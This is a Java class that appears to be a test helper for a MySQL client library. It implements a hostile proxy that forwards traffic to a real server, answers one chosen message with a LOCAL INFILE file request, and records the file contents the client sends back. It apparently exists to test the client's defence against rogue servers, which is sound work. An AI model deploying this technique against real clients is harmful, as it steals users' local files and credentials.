package io.millrace.mysql.connect;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A hostile server: passes on what a client sends to a real one, but answers one message of its
 * choice by asking for a file, and keeps what it is sent.
 */
public final class FileAskingProxy implements AutoCloseable {

  private static final int FILE_REQUEST = 0xfb;

  private static final int PATIENCE_MILLIS = 1000;

  private final String host;
  private final int port;
  private final String file;
  private final int victim;
  private final ServerSocket listener;
  private final AtomicInteger messages = new AtomicInteger();
  private final ByteArrayOutputStream stolen = new ByteArrayOutputStream();

  /**
   * @param file what it asks for
   * @param victim the number of the message that it answers so, from 0, over all connections; each
   *     login is one, and each statement
   */
  public FileAskingProxy(String host, int port, String file, int victim) throws IOException {
    this.host = host;
    this.port = port;
    this.file = file;
    this.victim = victim;
    this.listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    start(this::accept);
  }

  /** The port of 127.0.0.1 at which it listens. */
  public int port() {
    return listener.getLocalPort();
  }

  /** True once it has asked. */
  public boolean hasAsked() {
    return messages.get() > victim;
  }

  /** What clients have sent when they were asked. */
  public String stolen() {
    synchronized (stolen) {
      return stolen.toString(StandardCharsets.UTF_8);
    }
  }

  private static void start(Task task) {
    Thread thread =
        new Thread(
            () -> {
              try {
                task.run();
              } catch (IOException e) {
                // An end has closed its connection.
              }
            },
            "file-asking-proxy");
    thread.setDaemon(true);
    thread.start();
  }

  private interface Task {
    void run() throws IOException;
  }

  private void accept() throws IOException {
    while (true) {
      Socket client = listener.accept();
      Socket server = new Socket(host, port);
      start(
          () -> {
            try (client;
                server) {
              copy(server.getInputStream(), client.getOutputStream());
            }
          });
      start(
          () -> {
            try (client;
                server) {
              passOn(client, server.getOutputStream());
            }
          });
    }
  }

  private static void copy(InputStream in, OutputStream out) throws IOException {
    byte[] portion = new byte[1 << 16];
    for (int length = in.read(portion); length >= 0; length = in.read(portion)) {
      out.write(portion, 0, length);
    }
  }

  private void passOn(Socket client, OutputStream server) throws IOException {
    DataInputStream in = new DataInputStream(client.getInputStream());
    boolean first = true;
    while (true) {
      Packet packet = Packet.read(in);
      // Of a statement the first packet has number 0; a login is what is sent first.
      boolean begins = first || packet.number == 0;
      first = false;
      if (begins && messages.getAndIncrement() == victim) {
        // Where a file is no possible answer, a client waits for the rest of what it takes it for.
        client.setSoTimeout(PATIENCE_MILLIS);
        ask(client.getOutputStream(), packet.number + 1, in);
        return;
      }
      packet.write(server);
    }
  }

  private void ask(OutputStream client, int number, DataInputStream in) throws IOException {
    byte[] name = file.getBytes(StandardCharsets.UTF_8);
    byte[] request = new byte[name.length + 1];
    request[0] = (byte) FILE_REQUEST;
    System.arraycopy(name, 0, request, 1, name.length);
    new Packet(number, request).write(client);
    client.flush();
    while (true) {
      Packet sent = Packet.read(in);
      if (sent.content.length == 0) {
        return;
      }
      synchronized (stolen) {
        stolen.write(sent.content);
      }
    }
  }

  private record Packet(int number, byte[] content) {

    static Packet read(DataInputStream in) throws IOException {
      int low = in.read();
      if (low < 0) {
        throw new EOFException();
      }
      int length = low | in.readUnsignedByte() << 8 | in.readUnsignedByte() << 16;
      int number = in.readUnsignedByte();
      byte[] content = new byte[length];
      in.readFully(content);
      return new Packet(number, content);
    }

    void write(OutputStream out) throws IOException {
      byte[] whole = new byte[content.length + 4];
      whole[0] = (byte) content.length;
      whole[1] = (byte) (content.length >> 8);
      whole[2] = (byte) (content.length >> 16);
      whole[3] = (byte) number;
      System.arraycopy(content, 0, whole, 4, content.length);
      out.write(whole);
    }
  }

  @Override
  public void close() throws IOException {
    listener.close();
  }
}
